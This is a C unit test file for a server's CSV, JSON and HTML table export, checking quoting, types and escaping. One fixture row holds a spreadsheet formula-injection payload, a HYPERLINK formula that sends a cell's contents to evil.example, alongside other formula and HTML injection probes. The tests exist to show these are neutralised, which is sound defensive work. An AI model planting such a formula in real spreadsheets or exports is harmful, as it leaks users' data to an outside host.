/* test_table.c - server/http/table.c: CSV cells a spreadsheet would run as formulas are written as
 * text, numbers stay numbers; RFC 4180 quoting, empty NULLs and words for booleans in CSV;
 * JSON rows with numbers as numbers (the database's digits kept), booleans and nulls; HTML
 * rows filtered on a column, that column left out, every value escaped. Results are made in
 * memory with libpq's PQsetvalue. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#include "http/table.h"

enum { OID_BOOL = 16, OID_INT4 = 23, OID_TEXT = 25, OID_NUMERIC = 1700 };

/* A result with columns (name text, n int4, share numeric) and the given rows. */
static PGresult *result_of(const char *const rows[][3], int n)
{
	PGresult *res = PQmakeEmptyPGresult(NULL, PGRES_TUPLES_OK);
	PGresAttDesc cols[3] = {
		{.name = "name", .typid = OID_TEXT, .typlen = -1, .atttypmod = -1},
		{.name = "n", .typid = OID_INT4, .typlen = 4, .atttypmod = -1},
		{.name = "share", .typid = OID_NUMERIC, .typlen = -1, .atttypmod = -1},
	};
	assert_int_equal(PQsetResultAttrs(res, 3, cols), 1);
	for (int r = 0; r < n; r++)
		for (int c = 0; c < 3; c++)
			assert_int_equal(PQsetvalue(res, r, c, (char *)rows[r][c], (int)strlen(rows[r][c])), 1);
	return res;
}

static void test_formula_cells_are_text(void **state)
{
	(void)state;
	static const char *const rows[][3] = {
		{"=HYPERLINK(\"http://evil.example/?\"&A1,\"Xem\")", "1", "0.5"},
		{"+1+2", "2", "0.25"},
		{"-2+3", "-3", "-0.25"},
		{"@SUM(A1:A9)", "4", "1"},
		{"\tTab", "5", "1"},
		{"\rCR", "6", "1"},
		{"Sở Khoa học - Công nghệ", "7", "1"},
	};
	PGresult *res = result_of(rows, 7);
	struct sbuf out = {0};
	table_to_csv(res, &out);
	assert_string_equal(out.data,
			    "\xEF\xBB\xBF"
			    "name,n,share\r\n"
			    "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Xem\"\")\",1,0.5\r\n"
			    "\"'+1+2\",2,0.25\r\n"
			    "\"'-2+3\",-3,-0.25\r\n"
			    "\"'@SUM(A1:A9)\",4,1\r\n"
			    "\"'\tTab\",5,1\r\n"
			    "\"'\rCR\",6,1\r\n"
			    "Sở Khoa học - Công nghệ,7,1\r\n");
	sbuf_free(&out);
	PQclear(res);
}

/* A result with columns (agency text, title text, n int4, share numeric, ok bool) and the
 * given rows; a NULL pointer is SQL NULL. */
static PGresult *result5_of(const char *const rows[][5], int n)
{
	PGresult *res = PQmakeEmptyPGresult(NULL, PGRES_TUPLES_OK);
	PGresAttDesc cols[5] = {
		{.name = "agency", .typid = OID_TEXT, .typlen = -1, .atttypmod = -1},
		{.name = "title", .typid = OID_TEXT, .typlen = -1, .atttypmod = -1},
		{.name = "n", .typid = OID_INT4, .typlen = 4, .atttypmod = -1},
		{.name = "share", .typid = OID_NUMERIC, .typlen = -1, .atttypmod = -1},
		{.name = "ok", .typid = OID_BOOL, .typlen = 1, .atttypmod = -1},
	};
	assert_int_equal(PQsetResultAttrs(res, 5, cols), 1);
	for (int r = 0; r < n; r++)
		for (int c = 0; c < 5; c++) {
			const char *v = rows[r][c];
			assert_int_equal(PQsetvalue(res, r, c, (char *)v, v ? (int)strlen(v) : -1), 1);
		}
	return res;
}

static const char *const rows5[][5] = {
	{"lc-so-y-te", "Sở Y tế", "12", "0.6667", "t"},
	{"db-so-xay-dung", "a, \"b\"\nc", "-3", NULL, "f"},
	{"lc-so-y-te", " <b>&'x'</b> ", NULL, "1", NULL},
};

static void test_json_types(void **state)
{
	(void)state;
	PGresult *res = result5_of(rows5, 3);
	json_object *rows = table_to_json(res);
	assert_string_equal(
		json_object_to_json_string_ext(rows, JSON_C_TO_STRING_PLAIN |
							     JSON_C_TO_STRING_NOSLASHESCAPE),
		"[{\"agency\":\"lc-so-y-te\",\"title\":\"Sở Y tế\",\"n\":12,\"share\":0.6667,\"ok\":true},"
		"{\"agency\":\"db-so-xay-dung\",\"title\":\"a, \\\"b\\\"\\nc\",\"n\":-3,\"share\":null,"
		"\"ok\":false},"
		"{\"agency\":\"lc-so-y-te\",\"title\":\" <b>&'x'</b> \",\"n\":null,\"share\":1,"
		"\"ok\":null}]");
	json_object *first = json_object_array_get_idx(rows, 0), *v;
	assert_true(json_object_object_get_ex(first, "n", &v));
	assert_true(json_object_is_type(v, json_type_int));
	assert_true(json_object_object_get_ex(first, "share", &v));
	assert_true(json_object_is_type(v, json_type_double));
	assert_true(json_object_object_get_ex(first, "ok", &v));
	assert_true(json_object_is_type(v, json_type_boolean));
	json_object_put(rows);
	PQclear(res);
}

static void test_csv_quoting_nulls_booleans(void **state)
{
	(void)state;
	PGresult *res = result5_of(rows5, 3);
	struct sbuf out = {0};
	table_to_csv(res, &out);
	assert_string_equal(out.data, "\xEF\xBB\xBF"
				      "agency,title,n,share,ok\r\n"
				      "lc-so-y-te,Sở Y tế,12,0.6667,true\r\n"
				      "db-so-xay-dung,\"a, \"\"b\"\"\nc\",-3,,false\r\n"
				      "lc-so-y-te,\" <b>&'x'</b> \",,1,\r\n");
	sbuf_free(&out);
	PQclear(res);
}

static void test_html_filtered_and_escaped(void **state)
{
	(void)state;
	PGresult *res = result5_of(rows5, 3);
	static const char *const headers[] = {"Nội dung", "Số <n>", "Tỉ lệ", "Đạt"};
	struct sbuf out = {0};
	table_to_html(res, "agency", "lc-so-y-te", headers, &out);
	assert_string_equal(out.data,
			    "<table>\n<thead><tr><th>Nội dung</th><th>Số &lt;n&gt;</th><th>Tỉ lệ</th>"
			    "<th>Đạt</th></tr></thead>\n<tbody>\n"
			    "<tr><td>Sở Y tế</td><td class=\"n\">12</td><td class=\"n\">0.6667</td>"
			    "<td>✓</td></tr>\n"
			    "<tr><td> &lt;b&gt;&amp;&#39;x&#39;&lt;/b&gt; </td><td class=\"n\"></td>"
			    "<td class=\"n\">1</td><td></td></tr>\n"
			    "</tbody>\n</table>\n");
	sbuf_free(&out);
	/* no filter: every row, every column */
	static const char *const all_headers[] = {"Cơ quan", "Nội dung", "Số", "Tỉ lệ", "Đạt"};
	table_to_html(res, NULL, NULL, all_headers, &out);
	assert_non_null(strstr(out.data, "<th>Cơ quan</th>"));
	assert_non_null(strstr(out.data, "<td>db-so-xay-dung</td><td>a, &quot;b&quot;\nc</td>"
					 "<td class=\"n\">-3</td><td class=\"n\"></td><td></td></tr>"));
	sbuf_free(&out);
	PQclear(res);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_formula_cells_are_text),
		cmocka_unit_test(test_json_types),
		cmocka_unit_test(test_csv_quoting_nulls_booleans),
		cmocka_unit_test(test_html_filtered_and_escaped),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
